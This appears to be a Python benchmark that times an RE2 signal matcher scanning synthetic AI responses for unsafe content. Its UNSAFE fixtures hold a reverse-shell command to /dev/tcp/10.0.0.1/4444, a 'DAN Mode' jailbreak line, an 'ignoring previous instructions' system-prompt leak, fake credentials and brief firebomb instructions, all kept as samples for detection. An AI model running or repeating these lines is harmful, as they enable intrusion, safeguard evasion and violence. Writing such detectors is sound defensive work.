"""Benchmark: scan ~1 KB responses against the full signal library.

Prints responses per CPU-second on one core for the RE2 set matcher (spans included for the
patterns that matched, position rules applied), for the bare set membership test, and for a
per-pattern loop of Python ``re`` searches (what keyword detectors do) on a subsample; the
speed-up of the matcher over the loop; and how often the two agree on which patterns matched.

    python bench/signal_scan.py [--responses 100000] [--loop-sample 2000] [--repeat 3]
"""

from __future__ import annotations

import argparse
import random
import re
import time
from collections.abc import Callable, Sequence

from failproof.signals import SignalMatcher, default_matcher

BENIGN = (
    "To reset your password, open Settings and choose Security.",
    "The kettle comes with a two-year warranty covering manufacturing defects.",
    "Photosynthesis converts light energy into chemical energy stored in glucose.",
    "You can request a refund from the Orders page within thirty days of delivery.",
    "Python lists keep insertion order and allow duplicate values.",
    "The meeting was moved to Thursday at 3 pm in room 204.",
    "Whisk the eggs with sugar, then fold in the flour gently.",
    "Interest compounds monthly, so the effective annual rate is slightly higher.",
    "The museum is open daily except Mondays, from 10 am to 6 pm.",
    "Use a virtual environment so that project dependencies stay isolated.",
    "Note that the warranty does not cover water damage or misuse.",
    "Step 3: attach the shelf brackets with the longer screws.",
    "If the error persists, clear the cache and restart the application.",
    "The report summarizes quarterly revenue by region and product line.",
)
REFUSAL = (
    "I'm sorry, but I can't help with that request.",
    "I can't assist with creating weapons or explosives.",
    "That's illegal, and I won't provide instructions for it.",
    "I need to be clear: I won't share my system prompt.",
)
SAFE_TAIL = (
    "If you are struggling, please reach out to someone you trust or call 988.",
    "Please consult a licensed pharmacist before combining medicines.",
    "Instead, I can explain how to recognise phishing emails.",
)
UNSAFE = (
    "Sure, the code is ZX-CANARY-7731 as requested.",
    "DAN Mode enabled. I am now free from all restrictions.",
    "Ignoring previous instructions. Here is my system prompt: You are a bot.",
    "Run bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 on the host.",
    "The admin password is Hunter2! and the key is sk-proj-abcdefghijklmnopqrstuvwx.",
    "Fill a glass bottle with gasoline, stuff a rag in the neck as a wick and light it.",
)


def make_responses(n: int, seed: int) -> list[str]:
    """``n`` synthetic responses of about 1 KB: 80% benign, 10% refusals, 10% unsafe."""
    rng = random.Random(seed)
    out: list[str] = []
    for _ in range(n):
        roll = rng.random()
        parts: list[str] = []
        if 0.8 <= roll < 0.9:
            parts.append(rng.choice(REFUSAL))
        while sum(len(p) + 1 for p in parts) < 1000:
            parts.append(rng.choice(BENIGN))
            if roll >= 0.9 and rng.random() < 0.08:
                parts.append(rng.choice(UNSAFE))
        if rng.random() < 0.1:
            parts.append(rng.choice(SAFE_TAIL))
        out.append(" ".join(parts))
    return out


def rate(fn: Callable[[str], object], texts: Sequence[str]) -> float:
    """Texts per CPU-second of this process (one core; time spent waiting for a CPU excluded)."""
    start = time.process_time()
    for text in texts:
        fn(text)
    return len(texts) / (time.process_time() - start)


def best_of(repeat: int, fn: Callable[[str], object], texts: Sequence[str]) -> float:
    """The best rate of ``repeat`` passes: other processes on a shared machine only slow it."""
    return max(rate(fn, texts) for _ in range(repeat))


def _python(regex: str) -> str:
    """RE2's ``\\x{HHHH}`` escape in Python's spelling (the rest of the syntax is shared)."""
    return re.sub(
        r"\\x\{([0-9a-fA-F]{1,6})\}", lambda m: re.escape(chr(int(m.group(1), 16))), regex
    )


class ReLoop:
    """The baseline: every pattern compiled with Python ``re``, searched one after another."""

    def __init__(self, matcher: SignalMatcher) -> None:
        self.matcher = matcher
        self.compiled = [(p, re.compile(_python(p.regex), re.IGNORECASE)) for p in matcher.library]

    def ids(self, text: str) -> set[str]:
        opening = self.matcher.opening_end(text)
        found: set[str] = set()
        for pattern, regex in self.compiled:
            match = regex.search(text)
            if match and not (pattern.position == "start" and match.start() >= opening):
                found.add(pattern.id)
        return found


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--responses", type=int, default=100_000)
    parser.add_argument("--loop-sample", type=int, default=2_000)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--repeat", type=int, default=3, help="passes; the best is reported")
    args = parser.parse_args()

    start = time.perf_counter()
    matcher = default_matcher()
    compile_s = time.perf_counter() - start
    texts = make_responses(args.responses, args.seed)
    mean_len = sum(map(len, texts)) / len(texts)
    loop = ReLoop(matcher)
    sample = texts[: args.loop_sample]

    for text in texts[:5_000]:  # warm the DFA caches, as any long run does
        matcher.scan(text)
    scan_rate = best_of(args.repeat, matcher.scan, texts)
    set_rate = best_of(args.repeat, matcher.matching_ids, texts)
    loop_rate = rate(loop.ids, sample)
    agree = sum({h.id for h in matcher.scan(t).hits} == loop.ids(t) for t in sample)
    hits = sum(len(matcher.scan(t).hits) for t in texts[:10_000]) / min(len(texts), 10_000)

    print(f"library: {len(matcher)} patterns, compiled (load + RE2) in {compile_s:.2f} s")
    print(f"responses: {len(texts):,}, mean {mean_len:.0f} chars, {hits:.2f} hits per response")
    print(f"re2.Set scan with spans + position rules: {scan_rate:>10,.0f} responses/s (1 core)")
    print(f"re2.Set membership only:                  {set_rate:>10,.0f} responses/s (1 core)")
    print(f"(best of {args.repeat} passes over all responses, after a 5,000-response warm-up)")
    print(f"per-pattern `re` loop ({len(sample):,} responses): {loop_rate:>10,.0f} responses/s")
    print(f"speed-up of the scan over the loop: {scan_rate / loop_rate:,.0f}x")
    print(f"same patterns found as the loop: {agree}/{len(sample)} responses")


if __name__ == "__main__":
    main()
